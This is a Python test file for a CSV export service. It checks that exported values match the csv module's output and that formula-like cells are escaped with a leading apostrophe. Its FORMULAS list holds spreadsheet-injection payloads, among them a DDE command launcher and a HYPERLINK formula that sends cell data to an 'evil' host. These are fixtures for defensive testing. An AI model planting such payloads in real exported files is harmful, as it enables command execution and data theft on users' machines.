"""A table is written as the csv module writes it."""

import csv
import io

import orjson

from services.results.export.exported_run import ExportedRun
from services.results.export.table_formats import SCORE_PREFIX, CsvFile, field_names
from services.results.runs.run_plan import RunRecord
from tests.fakes.results.exported_texts import NASTY_TEXTS
from tests.fakes.results.recorded_run import plan_of

JSON_FIELDS = ("request", "choice_logprobs", "body")
VALUES: tuple[object, ...] = (
    *NASTY_TEXTS,
    " ",
    '"',
    ",",
    "\r",
    "\n",
    None,
    True,
    7,
    0.1,
    1e-9,
    1e22,
    [],
    [1, "a,b"],
    {"a": '"'},
)


FORMULAS = (
    "=1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1)',
    "@SUM(1)",
    "+2+3",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1+1",  # full-width
)
HARMLESS = ("-5", "+5.5", "-1e-9", "a=b", "1-2", "'=1", "", "Yes, @all")


def test_a_file_for_a_spreadsheet_has_no_text_that_runs_as_a_formula() -> None:
    run = ExportedRun(RunRecord(plan_of([1]), 1), is_partial=False, is_csv_safe=True)
    names = field_names(run.metrics)
    rest = {"scores": "{}"} | dict.fromkeys(JSON_FIELDS)
    rows = [dict.fromkeys(names, text) | rest for text in (*FORMULAS, *HARMLESS)]
    written = CsvFile(run).write(rows).decode()
    answers = [row[names.index("answer")] for row in csv.reader(io.StringIO(written, newline=""))]
    assert answers == [*("'" + text for text in FORMULAS), *HARMLESS]


def test_every_value_is_written_as_the_csv_module_writes_it() -> None:
    run = ExportedRun(RunRecord(plan_of([1]), 1), is_partial=False)
    names, written = field_names(run.metrics), CsvFile(run)
    expected = io.StringIO(newline="")
    table = csv.writer(expected)
    table.writerow(names)
    rows = []
    for value in VALUES:
        scores = dict.fromkeys(run.metrics, value)
        texts = dict.fromkeys(JSON_FIELDS, orjson.dumps(value).decode())
        rows.append(dict.fromkeys(names, value) | texts | {"scores": orjson.dumps(scores).decode()})
        is_json = isinstance(value, (list, dict))
        text = orjson.dumps(value).decode()
        table.writerow([text if is_json or name in JSON_FIELDS else value for name in names])
    assert any(name.startswith(SCORE_PREFIX) for name in names)
    assert written.begin() + written.write(rows) + written.end() == expected.getvalue().encode()
